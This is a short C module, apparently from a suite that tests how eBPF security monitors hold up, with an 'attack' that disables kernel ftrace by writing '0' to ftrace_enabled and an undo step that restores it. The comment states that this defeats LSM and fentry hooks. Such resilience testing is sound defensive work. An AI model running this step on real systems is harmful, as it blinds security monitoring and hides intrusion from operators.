// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Switches ftrace off: the calls that LSM and fentry programs hang on become no-ops.
 * Success: nearly all legs fall.
 */
#include "attack.h"

#define SWITCH "/proc/sys/kernel/ftrace_enabled"

static void run(void)
{
	act("write to ftrace_enabled", write_text(SWITCH, "0"));
}

static void undo(void)
{
	write_text(SWITCH, "1");
}

ATTACK("switches ftrace off by sysctl", .run = run, .undo = undo);
